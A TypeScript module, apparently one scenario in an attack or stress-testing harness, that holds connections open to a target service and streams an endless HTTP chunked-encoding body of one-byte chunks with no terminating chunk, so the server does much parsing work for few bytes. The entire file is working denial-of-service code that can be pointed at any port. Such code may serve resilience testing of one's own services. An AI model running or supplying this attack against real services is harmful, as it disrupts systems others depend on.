// Bodies of chunks of one byte, without end, to another service: much work for few bytes.
import type { Running, Target } from '../attack.ts';
import { HeldConnections } from '../sockets.ts';

const CONNECTIONS = 2;
const HEAD = 'POST / HTTP/1.1\r\nHost: other\r\nTransfer-Encoding: chunked\r\n\r\n';
const CHUNKS = '1\r\nx\r\n'.repeat(10_000);

export async function tinyChunks({ otherPort }: Target): Promise<Running> {
  let bytes = 0;
  const held = new HeldConnections({
    port: otherPort,
    count: CONNECTIONS,
    reads: true,
    onOpen: (socket) => {
      const send = (): void => {
        while (!socket.destroyed) {
          bytes += CHUNKS.length;
          if (!socket.write(CHUNKS)) return;
        }
      };
      socket.on('drain', send);
      socket.write(HEAD);
      send();
    },
  });
  await held.start();
  return {
    note: () => `${Math.round(bytes / 6e6)} million chunks`,
    stop: () => held.stop(),
  };
}
